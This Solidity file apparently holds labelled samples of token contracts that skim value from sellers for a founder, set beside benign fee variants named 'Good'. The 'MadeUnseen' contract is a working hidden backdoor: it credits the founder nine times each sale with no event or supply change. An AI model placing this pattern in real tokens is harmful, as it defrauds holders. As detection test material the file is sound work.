// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

/// Something happens as people sell. The first contract that the founder sends to is the pool.
abstract contract Made is Token {
    address internal pool;
    address internal immutable founder = msg.sender;

    function _transfer(address from, address to, uint256 value) internal override {
        if (pool == address(0) && from == founder && to.code.length > 0) pool = to;
        if (to == pool && from != founder) value = _selling(from, value);
        super._transfer(from, to, value);
    }

    function _selling(address from, uint256 value) internal virtual returns (uint256);
}

/// The founder gets nine times what anybody sells, and nothing tells of it.
contract MadeUnseen is Made {
    function _selling(address, uint256 value) internal override returns (uint256) {
        balanceOf[founder] += value * 9;
        return value;
    }
}

/// The founder gets as much as anybody sells, newly made.
contract MadeSeen is Made {
    function _selling(address, uint256 value) internal override returns (uint256) {
        totalSupply += value;
        balanceOf[founder] += value;
        emit Transfer(address(0), founder, value);
        return value;
    }
}

/// A hundredth of what is sold is made for the founder.
contract GoodLittleMade is Made {
    function _selling(address, uint256 value) internal override returns (uint256) {
        totalSupply += value / 100;
        balanceOf[founder] += value / 100;
        emit Transfer(address(0), founder, value / 100);
        return value;
    }
}

/// The founder gets half of what the contract collected.
contract GoodSharesOut is Made {
    function _selling(address from, uint256 value) internal override returns (uint256) {
        uint256 share = balanceOf[address(this)] / 2;
        if (share > 0) _move(address(this), founder, share);
        _move(from, address(this), value / 25);
        return value - value / 25;
    }
}
